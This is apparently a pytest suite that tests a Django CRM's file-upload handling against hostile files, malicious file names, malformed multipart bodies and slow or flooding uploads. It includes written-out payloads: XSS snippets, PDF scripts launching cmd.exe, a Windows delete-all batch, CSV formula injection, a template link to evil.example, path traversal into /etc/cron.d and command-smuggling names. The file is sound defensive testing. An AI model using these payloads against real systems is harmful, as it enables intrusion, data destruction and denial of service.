"""What cannot be refused is made harmless: read as it is served, sent as attackers send it, while others work."""

import re
import statistics
import threading
import time
from http.client import HTTPConnection
from urllib.parse import unquote

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from motorcrm.core.exact import rub
from motorcrm.core.refusal import Invalid
from motorcrm.files import intake, redraw
from motorcrm.files.models import StoredFile
from motorcrm.files.send import SANDBOX
from motorcrm.files.tests.making import archive, docx, jpeg_saying, packed_comment, pdf, picture, with_link, xlsx
from motorcrm.testing.builders import an_order
from motorcrm.testing.tests.test_serve import serving

SCRIPT = b"<script>alert(1)</script>"
MALICE = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
ELSEWHERE = b'<Relationship Type="attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>'
ACTING = b"%%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/%s>>>>endobj\n%%%%EOF\n"

HARMLESS = {
    "a PDF with a script": ("a.pdf", ACTING % b"JavaScript/JS(app.alert(1))"),
    "a PDF that starts a program": ("a.pdf", ACTING % b"Launch/F(cmd.exe)"),
    "a PDF that is a page": ("a.html", b"%PDF-1.4\n<html>" + SCRIPT + b"</html>\n%%EOF\n"),
    "a PDF that is an archive": ("a.jar", pdf() + archive({"META-INF/MANIFEST.MF": b"Main-Class: A"}) + b"%%EOF"),
    "an error of an image in text": ("a.html", b"Hello <img src=x onerror=alert(1)>"),
    "a link in text": ("a.htm", b"Hello <a href='javascript:alert(1)'>Click</a>"),
    "a refreshed page in text": ("a.txt", b"Hello <meta http-equiv=refresh content='0;url=javascript:alert(1)'>"),
    "a script in seven bits": ("a.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    "commands of Windows": ("a.bat", b"@echo off\r\ndel c:\\*.*\r\n"),
    "a script alone": ("a.js", b"alert(document.cookie)"),
    "a style alone": ("a.css", b"body { background: url(//evil.example) }"),
    "what scanners of viruses look for": ("a.com", MALICE),
    "a table with formulas": ("a.csv", b"=cmd|'/c calc'!A1;2\n@SUM(1);+1\n"),
    "text of old Windows": ("a.txt", "Стук в моторе".encode("cp1251")),
    "brackets without end": ("a.json", b"[" * 100_000),
    "a document with a template from elsewhere": ("a.docx", docx(**{"word/_rels/settings.xml.rels": ELSEWHERE})),
    "a document with a link to a file of the system": ("a.docx", with_link()),
    "a document with names that lead outside": ("a.docx", docx(**{"../../../etc/cron.d/evil": b"* * * * * root id"})),
    "a table in a table": ("a.xlsx", xlsx({"xl/embeddings/inner.xlsx": xlsx()})),
    "a document with an entity that grows": ("a.docx", docx(**{"word/a.xml": b"<!DOCTYPE a [<!ENTITY b 'b'>]><a/>"})),
}

NAMES = [
    b"../../../../etc/passwd.txt",
    b"..\\..\\windows\\system32\\evil.txt",
    b"/etc/cron.d/evil.txt",
    b"C:\\CON.txt",
    b"nul.txt",
    b"...",
    b".htaccess",
    b"a\x00.php\x00.txt",
    "счёт\u202etxt.exe".encode(),
    b"x" * 300 + b".txt",
    "ы".encode() * 300,
    "🏍️ мотоцикл.txt".encode(),
    b'quo"te;filename=evil.html.txt',
    b"a%0d%0aSet-Cookie:%20x=y.txt",
    b"semi;colon,comma.txt",
    b"<img src=x onerror=alert(1)>.txt",
    b"\xed\xa0\x80.txt",
    b"\xff\xfe.txt",
    b"photo.jpg.php.exe.txt",
    b"$(id)`id`|id.txt",
]


def parts(*files, boundary="frontier"):
    """A body as anybody may write it: names are bytes, nothing is made tidy."""
    body = b""
    for field, name, content in files:
        body += b"--" + boundary.encode() + b"\r\n"
        body += b'Content-Disposition: form-data; name="' + field + b'"'
        body += b'; filename="' + name + b'"' if name is not None else b""
        body += b"\r\nContent-Type: text/html\r\n\r\n" + content + b"\r\n"
    return body + b"--" + boundary.encode() + b"--\r\n"


def send(client, order, body, **more):
    return client.generic(
        "POST", f"/files/order/{order.pk}/add/", body, content_type="multipart/form-data; boundary=frontier", **more
    )


@pytest.fixture
def order(workshop):
    return an_order(workshop, jobs=rub(1_000))


@pytest.mark.parametrize("what", HARMLESS)
def test_it_is_saved_or_shown_as_what_it_is_and_as_nothing_else(workshop, sign_in, order, what):
    name, content = HARMLESS[what]
    client = sign_in(workshop.manager)
    client.post(f"/files/order/{order.pk}/add/", {"file": SimpleUploadedFile(name, content, "text/html")})
    file = StoredFile.objects.get()

    answer = client.get(f"/files/order/{order.pk}/{file.stored}/")

    kind = answer["Content-Type"]
    assert b"".join(answer) == content
    assert kind.split(";")[0] in ("application/pdf", "text/plain") or "officedocument" in kind
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Cross-Origin-Resource-Policy"] == "same-origin"
    assert "Set-Cookie" not in answer
    disposition = answer["Content-Disposition"]
    if kind == "application/pdf":
        assert disposition.startswith("inline;")
        assert disposition.endswith('.pdf"')
        assert "script-src 'self'" in answer["Content-Security-Policy"]
    else:
        assert disposition.startswith("attachment;")
        assert re.search(r"\.(txt|csv|docx|xlsx)\"$", disposition)
        assert answer["Content-Security-Policy"] == SANDBOX


@pytest.mark.parametrize("name", NAMES)
def test_a_file_name_escapes_no_folder_and_breaks_no_header(workshop, sign_in, order, media, name):
    client = sign_in(workshop.manager)

    answer = send(client, order, parts((b"file", name, b"hello")))

    assert answer.status_code in (302, 400, 422)
    for file in StoredFile.objects.all():
        served = client.get(f"/files/order/{order.pk}/{file.stored}/")
        said = served["Content-Disposition"]
        assert not set("\r\n\0") & set(said)
        assert served["Content-Type"] == "text/plain"
        assert said.startswith("attachment;")
        shown = unquote(said.split("''")[-1]) if "filename*" in said else said.split("filename=")[1].strip('"')
        assert not set("/\\") - {"\\"} & set(shown), "no path"
        assert shown.endswith((".txt", ".csv"))
        assert len(file.name) <= 120
        page = client.get(f"/orders/{order.pk}/").content.decode()
        assert "<img src=x" not in page
        assert not [sign for sign in file.name if sign in "\u202e\u202d\u2066"]
    lying = [path for path in media.rglob("*") if path.is_file()]
    assert all(re.fullmatch(r"[0-9a-f]{32}", path.name) for path in lying)
    assert len(lying) == StoredFile.objects.count()


BODIES = {
    "two hundred files": parts(*[(b"file", b"%d.txt" % number, b"hello") for number in range(200)]),
    "a name of a field of a megabyte": parts((b"f" * 1_000_000, b"a.txt", b"hello")),
    "a name of a file of a megabyte": parts((b"file", b"f" * 1_000_000, b"hello")),
    "a field of ten megabytes": parts((b"key", None, b"k" * 10_000_000)),
    "ten thousand fields": parts(*[(b"k%d" % number, None, b"v") for number in range(10_000)]),
    "no end": parts((b"file", b"a.txt", b"hello"))[:-20],
    "no boundary": b"hello",
    "only boundaries": b"--frontier\r\n" * 20_000,
    "a head without end": b"--frontier\r\n" + b"X: y\r\n" * 100_000,
    "a part in a code unknown": b'--frontier\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\n'
    b"Content-Transfer-Encoding: base64\r\n\r\n!!!!\r\n--frontier--\r\n",
}


@pytest.mark.parametrize("what", BODIES)
def test_a_hostile_form_is_refused_quickly_and_keeps_nothing(workshop, sign_in, order, what):
    began = time.monotonic()

    answer = send(sign_in(workshop.manager), order, BODIES[what])

    assert answer.status_code in (302, 400, 413, 422)
    assert time.monotonic() - began < 20
    assert StoredFile.objects.count() <= 1
    assert all(len(file.name) <= 120 for file in StoredFile.objects.all())


def test_photos_beyond_the_queue_are_asked_to_try_again(monkeypatch):
    """Waiting for the line would take the threads that pages need."""
    monkeypatch.setattr(intake, "_line", threading.BoundedSemaphore(1))
    content = SimpleUploadedFile("a.jpg", jpeg_saying(8_000, 9_000))
    drawing = threading.Thread(target=intake.take_in, args=(content,), kwargs={"name": "a.jpg"})
    drawing.start()
    time.sleep(0.3)

    with pytest.raises(Invalid):
        intake.take_in(SimpleUploadedFile("b.jpg", picture()), name="b.jpg")
    drawing.join()

    assert intake.take_in(SimpleUploadedFile("b.jpg", picture()), name="b.jpg").drawn.small


def running(database, folder):
    """The program as it is started, which knows who is signed in here."""
    return serving(folder, DATABASE_URL=database.url, MOTORCRM_SECRET_KEY=settings.SECRET_KEY)


class Attacker:
    """Speaks to the running server without a browser, signed in."""

    def __init__(self, port, person):
        client = Client()
        client.force_login(person)
        session = client.cookies[settings.SESSION_COOKIE_NAME].value
        self.port, self.token = port, "a" * 32
        self.cookie = f"{settings.SESSION_COOKIE_NAME}={session}; {settings.CSRF_COOKIE_NAME}={self.token}"

    def get(self, path):
        line = HTTPConnection("127.0.0.1", self.port, timeout=60)
        line.request("GET", path, headers={"Cookie": self.cookie})
        answer = line.getresponse()
        answer.read()
        return answer.status

    def send(self, order, *contents, **headers):
        token = (b"csrfmiddlewaretoken", None, self.token.encode())
        files = [(b"file", b"%d.jpg" % number, content) for number, content in enumerate(contents)]
        head = {"Cookie": self.cookie, "Content-Type": "multipart/form-data; boundary=frontier", "HX-Request": "true"}
        line = HTTPConnection("127.0.0.1", self.port, timeout=120)
        line.request("POST", f"/files/order/{order}/add/", parts(token, *files), head | headers)
        return line.getresponse().status

    def lie(self, order, *, promised, sent):
        """Promise so many bytes, send fewer, and hang up."""
        line = HTTPConnection("127.0.0.1", self.port, timeout=60)
        line.putrequest("POST", f"/files/order/{order}/add/")
        for name, value in (
            ("Cookie", self.cookie),
            ("Content-Type", "multipart/form-data; boundary=frontier"),
            ("Content-Length", str(promised)),
        ):
            line.putheader(name, value)
        line.endheaders()
        line.send(sent)
        line.close()

    def send_in_pieces(self, order, pieces):
        """Without saying how much it will be."""
        head = {"Cookie": self.cookie, "Content-Type": "multipart/form-data; boundary=frontier"}
        line = HTTPConnection("127.0.0.1", self.port, timeout=60)
        line.request("POST", f"/files/order/{order}/add/", iter(pieces), head, encode_chunked=True)
        return line.getresponse().status


def test_others_work_while_hostile_files_are_sent(real_database, workshop, tmp_path):
    """Pictures that take seconds and hundreds of megabytes, sent by more threads than the server has."""
    order = an_order(workshop, jobs=rub(1_000))
    bombs = [jpeg_saying(8_000, 9_000), packed_comment(b"iTXt"), jpeg_saying(65_500, 65_500), pdf()[:-8]]
    with running(real_database, tmp_path) as (_process, port, _said):
        attacker, manager = Attacker(port, workshop.technician), Attacker(port, workshop.manager)
        statuses, over = [], threading.Event()

        def attack():
            while not over.is_set():
                statuses.append(attacker.send(order.pk, *bombs))

        attackers = [threading.Thread(target=attack, daemon=True) for _number in range(20)]
        for one in attackers:
            one.start()
        time.sleep(1)
        took = []
        for _time in range(12):
            began = time.monotonic()
            assert manager.get("/orders/") == 200
            took.append(time.monotonic() - began)
        over.set()
        for one in attackers:
            one.join(120)

        assert statistics.median(took) < 5, took
        assert max(took) < 10, took
        assert statuses
        # A browser that sends more at a time than its share is told to come again.
        assert set(statuses) <= {200, 422, 503}
        assert manager.send(order.pk, picture()) == 200


def test_streams_that_lie_about_their_length_hold_nobody_up(real_database, workshop, tmp_path):
    order = an_order(workshop, jobs=rub(1_000))
    with running(real_database, tmp_path) as (_process, port, _said):
        attacker = Attacker(port, workshop.technician)

        for promised in (10**6, 10**8, 10**15):
            attacker.lie(order.pk, promised=promised, sent=parts((b"file", b"a.txt", b"hello")))
        pieces = [parts((b"csrfmiddlewaretoken", None, attacker.token.encode()), (b"file", b"a.txt", b"hello"))]
        assert attacker.send_in_pieces(order.pk, pieces) in (302, 400, 403, 411, 422)

        assert attacker.get("/jobs/") == 200
        assert StoredFile.objects.count() <= 1
        assert redraw.SECONDS < intake.PATIENCE
